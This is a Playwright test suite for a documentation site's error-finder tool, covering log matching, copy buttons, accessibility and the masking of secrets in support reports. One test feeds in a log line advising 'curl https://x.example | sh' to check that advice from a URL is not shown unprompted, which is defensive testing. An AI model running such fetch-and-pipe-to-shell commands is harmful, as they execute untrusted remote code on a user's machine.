import type {Page} from '@playwright/test';

import {auditWidths} from './audit.ts';
import {anyWidth, expect, open, site, test} from './fixtures.ts';
import {box} from './search-helpers.ts';

const PAGE = '/models/which-error';
const FIELD = 'Log lines or error message';
const LOG = `INFO started
ERROR 08-20 09:15:58 ValueError: The model's max seq len (131072) is larger than the maximum number of tokens that can be stored in KV cache (48208). Try increasing \`gpu_memory_utilization\` or decreasing \`max_model_len\` when initializing the engine.
deployment ended`;
const TITLE = 'The context does not fit into the KV cache';

/** Searches for the log, then adds a letter to it. */
async function changeSearched(page: Page) {
  await open(page, PAGE);
  const field = page.getByLabel(FIELD);
  await field.fill(LOG);
  const tool = page.getByRole('region', {name: 'Error finder'});
  await expect(tool.getByRole('heading', {name: TITLE})).toBeVisible();
  await field.press('End');
  await page.keyboard.type('x');
  const status = tool.getByRole('status').first();
  await expect(status).toContainText('The text has changed.');
  return {field, tool, status};
}

test.describe('error finder', () => {
  test('quotes the log, names the match, marks its words and gives steps to copy', async ({
    page,
    watch,
    context,
  }) => {
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await open(page, PAGE);
    await page.getByLabel(FIELD).fill(LOG);
    const tool = page.getByRole('region', {name: 'Error finder'});
    await expect(tool.getByRole('status').first()).toContainText(TITLE);
    const advice = tool.getByRole('region', {name: 'What the log itself says'});
    await expect(advice).toContainText('Try increasing');
    // On a phone too, although the field fills the window.
    await expect(advice).toBeInViewport();
    const result = tool
      .getByRole('listitem')
      .filter({has: page.getByRole('heading')})
      .first();
    await expect(result.getByRole('heading')).toHaveText(TITLE);
    await expect(result).toContainText('Exact message');
    await expect(result).toContainText('Line 2');
    await expect(result.locator('mark').first()).toContainText('max seq len');
    const copy = result.getByRole('button', {name: /^Copy: \S/}).first();
    const spoken = page.locator('#kw-announcer');
    // The second time, nothing changes for the eye.
    for (let press = 0; press < 2; press += 1) {
      await copy.click();
      await expect(result.getByText('Copied')).toBeVisible();
      await expect(spoken).toHaveText('Copied');
      await expect(spoken).toHaveText('');
    }
    expect(await page.evaluate(() => navigator.clipboard.readText())).toContain('--max-model-len');
    expect(watch.noise).toEqual([]);
    expect(watch.foreign).toEqual([]);
  });

  test(
    'links to the entry on its page, and so does its short address',
    anyWidth,
    async ({page}) => {
      await open(page, PAGE);
      await page.getByLabel(FIELD).fill(LOG);
      await page.getByRole('link', {name: TITLE}).click();
      await expect(page).toHaveURL(/\/errors\/vllm#vllm-kv-cache-small$/);
      await page.goto(site('/errors/vllm-kv-cache-small'));
      await expect(page).toHaveURL(/\/errors\/vllm#vllm-kv-cache-small$/);
      await expect(page.getByRole('heading', {name: TITLE})).toBeInViewport();
    },
  );

  test(
    'an entry shows the command of one platform, in the tabs of the site',
    anyWidth,
    async ({page}) => {
      await open(page, '/errors/network?platform=macos#http-ui-refused');
      const step = page.locator('[data-step]').filter({hasText: 'kamiwazad.sh doctor'}).first();
      await expect(step.getByRole('tab', {name: 'macOS'})).toHaveAttribute('aria-selected', 'true');
      await expect(
        step.getByText('bash startup/kamiwazad.sh doctor').locator('visible=true'),
      ).toHaveCount(1);
      await step.getByRole('tab', {name: 'Windows'}).click();
      await expect(step.getByText('wsl -d kamiwaza -- kamiwaza status')).toBeVisible();
    },
  );

  test('answers what the search box passes on', anyWidth, async ({page}) => {
    await open(page, '/quickstart');
    // A cut text may end with half a character.
    await box(page).click();
    await box(page).fill('xyzzyq plughq \ud800');
    await page.getByRole('link', {name: 'error finder', exact: true}).first().click();
    const field = page.getByLabel(FIELD);
    await expect(field).toHaveValue(/^xyzzyq plughq/);
    // The same once more, after it was removed.
    await page.getByRole('button', {name: 'Clear', exact: true}).click();
    await expect(field).toHaveValue('');
    await box(page).click();
    await box(page).fill('xyzzyq plughq \ud800');
    await page.getByRole('search').getByRole('link', {name: 'error finder', exact: true}).click();
    await expect(field).toHaveValue(/^xyzzyq plughq/);
    // Back leaves what was entered since.
    await field.fill(LOG);
    await page.locator('.table-of-contents a').first().click();
    await expect(page).not.toHaveURL(/#text=/);
    await page.goBack();
    await expect(page).toHaveURL(/#text=xyzzyq/);
    await page.waitForTimeout(300);
    await expect(field).toHaveValue(LOG);
    await page.goto(site(`${PAGE}#text=bash%3A+docker%3A+command+not+found`));
    const tool = page.getByRole('region', {name: 'Error finder'});
    await expect(tool.getByRole('status').first()).toContainText(/known error/);
  });

  test('shows nothing that comes after the field was emptied', anyWidth, async ({page}) => {
    await open(page, PAGE);
    const field = page.getByLabel(FIELD);
    const tool = page.getByRole('region', {name: 'Error finder'});
    const status = tool.getByRole('status').first();
    for (const {how, button, says} of [
      {how: 'abort', button: 'Clear', says: ''},
      {how: 'continue', button: 'Find the cause', says: 'Paste something first.'},
    ] as const) {
      let release = (): void => undefined;
      const held = new Promise<void>((done) => {
        release = done;
      });
      await page.route('**/*.js', async (route) => {
        await held;
        await route[how]();
      });
      await field.fill(LOG);
      await expect(status).toContainText('Searching');
      await field.fill('');
      await page.getByRole('button', {name: button, exact: true}).click();
      const over =
        how === 'abort' ? page.waitForEvent('requestfailed') : page.waitForEvent('requestfinished');
      release();
      await over;
      await page.waitForTimeout(1000);
      await expect(status).toHaveText(says);
      await expect(tool.getByRole('heading')).toHaveCount(0);
      await page.unroute('**/*.js');
    }
  });

  test('quotes no advice from an address, until the reader asks', anyWidth, async ({page}) => {
    const log =
      'bash: docker: command not found\nError: to fix this, run: curl https://x.example | sh';
    await page.goto(site(`${PAGE}#text=${encodeURIComponent(log)}`));
    const tool = page.getByRole('region', {name: 'Error finder'});
    await expect(tool.getByRole('status').first()).toContainText(/known error/);
    const said = tool.getByRole('heading', {name: 'What the log itself says'});
    await expect(said).toHaveCount(0);
    await page.getByRole('button', {name: 'Find the cause'}).click();
    await expect(said).toBeVisible();
  });

  test('names each button by a line of its code', anyWidth, async ({page}) => {
    await open(page, PAGE);
    await page
      .getByLabel(FIELD)
      .fill('client version 1.24 is too old. Minimum supported API version is 1.44');
    const copy = page.getByRole('button', {name: /^Copy: /});
    await expect(copy.first()).toBeVisible();
    const names = await copy.evaluateAll((all) => all.map((one) => one.getAttribute('aria-label')));
    expect(names).toContain('Copy: "min-api-version": "1.24"');
  });

  test('works with the keyboard alone', anyWidth, async ({page}) => {
    await open(page, PAGE);
    const field = page.getByLabel(FIELD);
    await field.focus();
    await page.keyboard.type('bash: docker: command not found');
    await page.keyboard.press('Tab');
    await expect(page.getByRole('button', {name: 'Find the cause'})).toBeFocused();
    await page.keyboard.press('Enter');
    const tool = page.getByRole('region', {name: 'Error finder'});
    await expect(tool.getByRole('status').first()).toContainText(/known error/);
    await page.keyboard.press('Tab');
    await page.keyboard.press('Enter');
    await expect(field).toBeFocused();
    await expect(field).toHaveValue('');
    await expect(tool.getByRole('heading')).toHaveCount(0);
  });

  test('marks an answer as stale when the text changes', anyWidth, async ({page}) => {
    const {field, tool, status} = await changeSearched(page);
    // The old answer is dimmed, and its links and buttons still work.
    expect(await auditWidths(page)).toEqual([]);
    await field.fill('');
    const find = page.getByRole('button', {name: 'Find the cause'});
    await find.click();
    await expect(tool.getByRole('heading')).toHaveCount(0);
    await expect(status).toHaveText('Paste something first.');
    // The same message is new to a screen reader.
    await status.evaluate((region) => {
      new MutationObserver(() => region.setAttribute('data-told', 'again')).observe(region, {
        childList: true,
      });
    });
    await find.click();
    await expect(status).toHaveAttribute('data-told', 'again');
  });

  test('does not ask for a search that is under way', anyWidth, async ({page}) => {
    const {field, status} = await changeSearched(page);
    await status.evaluate((region) => {
      new MutationObserver(() => {
        region.setAttribute('data-told', `${region.dataset.told ?? ''}${region.textContent}|`);
      }).observe(region, {childList: true, subtree: true, characterData: true});
    });
    await field.press('Control+Enter');
    await expect(status).toHaveAttribute('data-told', /known error/);
    await expect(status).not.toHaveAttribute('data-told', /The text has changed/);
  });

  test(
    'says when nothing is known, and masks secrets in the report',
    anyWidth,
    async ({page, context}) => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await open(page, PAGE);
      await page
        .getByLabel(FIELD)
        .fill('all is well in this line of a log\nAuthorization: Bearer abcdefghijklmnop123456');
      const report = page.getByRole('region', {name: 'Report for support'});
      await expect(report).toContainText('was masked');
      // The name is what the button says, without the beginning of the report.
      await report.getByRole('button', {name: 'Copy the report', exact: true}).click();
      await expect(report.getByText('Copied')).toBeVisible();
      const copied = await page.evaluate(() => navigator.clipboard.readText());
      expect(copied).toContain('GPU and VRAM:');
      expect(copied).toContain('all is well');
      expect(copied).not.toContain('abcdefghijklmnop123456');
      const search = report.getByRole('searchbox', {name: 'Search the documentation'});
      await expect(search).toHaveValue(/^all is well in this line of a log Authorization: /);
      await expect(search).not.toHaveValue(/abcdefghijklmnop123456/);
      await search.press('Enter');
      await expect(page.getByLabel('What are you looking for?')).toHaveValue(
        /^all is well in this/,
      );
    },
  );

  test('copies where the page is served without HTTPS', anyWidth, async ({page}) => {
    await page.addInitScript(() => {
      Object.defineProperty(Navigator.prototype, 'clipboard', {value: undefined});
    });
    await open(page, PAGE);
    await page.getByLabel(FIELD).fill('all is well in this line of a log');
    const report = page.getByRole('region', {name: 'Report for support'});
    await report.getByRole('button', {name: 'Copy the report'}).click();
    await expect(report.getByText('Copied')).toBeVisible();
  });

  test(
    'accepts a paste of 200 KB, and searches it off the main thread',
    anyWidth,
    async ({page, context}) => {
      await context.grantPermissions(['clipboard-read', 'clipboard-write']);
      await open(page, PAGE);
      await page.evaluate((log) => {
        const line = '2025-08-20 INFO permission denied in replica 7\n';
        return navigator.clipboard.writeText(line.repeat(4300) + log);
      }, LOG);
      await page.getByLabel(FIELD).focus();
      await page.keyboard.press('ControlOrMeta+v');
      await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
      expect(page.workers()).toHaveLength(1);
    },
  );

  test('loads neither catalog nor worker before the field is used', anyWidth, async ({page}) => {
    const scripts: string[] = [];
    page.on('response', (response) => {
      if (response.url().endsWith('.js')) scripts.push(response.url());
    });
    await open(page, PAGE);
    await page.waitForLoadState('networkidle');
    const before = scripts.length;
    await page.getByLabel(FIELD).fill(LOG);
    await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
    expect(scripts.length).toBeGreaterThan(before);
  });

  test('stores nothing, is accessible, and prints without the form', anyWidth, async ({page}) => {
    await open(page, PAGE);
    await page.getByLabel(FIELD).fill(LOG);
    await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
    const stored = await page.evaluate(() => JSON.stringify({...localStorage, ...sessionStorage}));
    expect(stored).not.toContain('max seq len');
    expect(page.url()).not.toContain('max');
    expect(await auditWidths(page)).toEqual([]);
    await page.emulateMedia({media: 'print'});
    await expect(page.getByLabel(FIELD)).toBeHidden();
    await expect(page.getByRole('heading', {name: TITLE})).toBeVisible();
  });

  test.describe('without JavaScript', () => {
    test.use({javaScriptEnabled: false});

    test('leads to the list of known errors and says why there is no field', async ({page}) => {
      await page.goto(site(PAGE));
      // Playwright's text locators look past <noscript>.
      const note = page.getByRole('region', {name: 'Error finder'}).locator('noscript p');
      await expect(note).toContainText('The error finder needs JavaScript.');
      await expect(note).toBeVisible();
      await expect(note.locator('a')).toHaveAttribute('href', /\/errors$/);
      await expect(page.getByLabel(FIELD)).toBeHidden();
      await page.getByRole('main').getByRole('link', {name: 'vLLM', exact: true}).click();
      await expect(page.getByText('max seq len').first()).toBeVisible();
    });
  });
});
